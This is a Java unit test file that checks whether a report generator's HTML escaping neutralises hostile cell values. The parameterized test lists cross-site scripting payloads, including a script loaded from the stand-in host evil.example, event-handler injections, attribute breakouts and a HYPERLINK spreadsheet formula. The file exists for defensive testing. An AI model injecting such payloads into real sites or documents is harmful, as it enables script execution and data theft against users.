package ca.trialpath.report;

import static ca.trialpath.report.HtmlTests.attribute;
import static ca.trialpath.report.HtmlTests.content;
import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Values an attacker or a broken export may put in a cell, through the page's templates. */
class HtmlHostileValuesTests {

    @ParameterizedTest
    @ValueSource(strings = {"<script>alert(1)</script>", "</td></tr></table><script src=//evil.example></script>",
            "\"><img src=x onerror=alert(1)>", "' onfocus='alert(1)' autofocus='", "<svg/onload=alert(1)>",
            "javascript:alert(1)\"", "<!--", "]]><script>", "=HYPERLINK(\"http://evil.example\",\"x\")"})
    void shouldLeaveNoMarkupAndNoWayOutOfAQuotedAttribute(String hostile) {
        assertThat(content(hostile)).doesNotContain("<", ">");
        assertThat(attribute(hostile)).doesNotContain("<", "\"", "'");
    }

    @Test
    void shouldReplaceEveryControlCharacterHtmlForbidsAndKeepTabAndLineBreaks() {
        // given: U+0000 to U+001F, U+007F to U+009F
        StringBuilder controls = new StringBuilder();
        for (char c = 0; c < 0x20; c++) {
            controls.append(c);
        }
        for (char c = 0x7F; c <= 0x9F; c++) {
            controls.append(c);
        }

        // when
        String escaped = content(controls.toString());

        // then
        assertThat(escaped.chars().filter(c -> c != '\t' && c != '\n' && c != '\r'))
                .containsOnly((int) '\uFFFD');
        assertThat(escaped).contains("\t", "\n", "\r").hasSize(controls.length());
    }

    @Test
    void shouldKeepLineAndParagraphSeparatorsAsTextWhichHtmlContentAllows() {
        assertThat(content("a\u2028b\u2029c")).isEqualTo("a\u2028b\u2029c");
    }

    @Test
    void shouldEscapeAValueNearTheCellBoundWhole() {
        // given: 64 KiB of markup, as much as one cohort cell may hold
        String hostile = "<b>".repeat(65_536 / 3);

        // when
        String escaped = content(hostile);

        // then
        assertThat(escaped).doesNotContain("<", ">").hasSize(hostile.length() / 3 * 9);
    }
}
